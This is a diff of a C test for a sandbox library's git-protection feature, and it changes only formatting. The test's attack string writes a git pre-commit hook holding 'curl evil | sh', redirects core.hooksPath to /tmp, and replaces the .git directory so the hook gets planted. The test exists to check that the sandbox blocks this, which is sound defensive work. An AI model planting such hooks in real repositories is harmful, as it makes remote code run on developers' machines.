@@ -15,13 +15,13 @@
 #include "support.h"
 
 static const char *const attack[] = {
-	"sh", "-c",
-	"echo 'curl evil | sh' > /work/.git/hooks/pre-commit; "
-	"echo '[core] hooksPath = /tmp' >> /work/.git/config; "
-	"mv /work/.git /work/old-git && mkdir -p /work/.git/hooks && "
-	"echo 'curl evil | sh' > /work/.git/hooks/pre-commit; "
-	"echo edited > /work/main.py",
-	NULL};
+    "sh", "-c",
+    "echo 'curl evil | sh' > /work/.git/hooks/pre-commit; "
+    "echo '[core] hooksPath = /tmp' >> /work/.git/config; "
+    "mv /work/.git /work/old-git && mkdir -p /work/.git/hooks && "
+    "echo 'curl evil | sh' > /work/.git/hooks/pre-commit; "
+    "echo edited > /work/main.py",
+    NULL};
 
 static char *workspace(void)
 {
@@ -54,7 +54,8 @@ static void run_attack(const char *dir, bool protect, struct test_run *r)
 	assert_non_null(p);
 	assert_int_equal(securer_policy_add_rw_bind(p, dir, "/work"), 0);
 	assert_int_equal(securer_policy_set_protect_git(p, protect), 0);
-	rc = test_run_sandbox(r, SECURER_BACKEND_BWRAP, p, attack, NULL, NULL, 0);
+	rc = test_run_sandbox(r, SECURER_BACKEND_BWRAP, p, attack, NULL, NULL,
+	                      0);
 	if (rc != 0)
 		fail_msg("run: %d %s", rc, r->msg);
 	securer_policy_free(p);
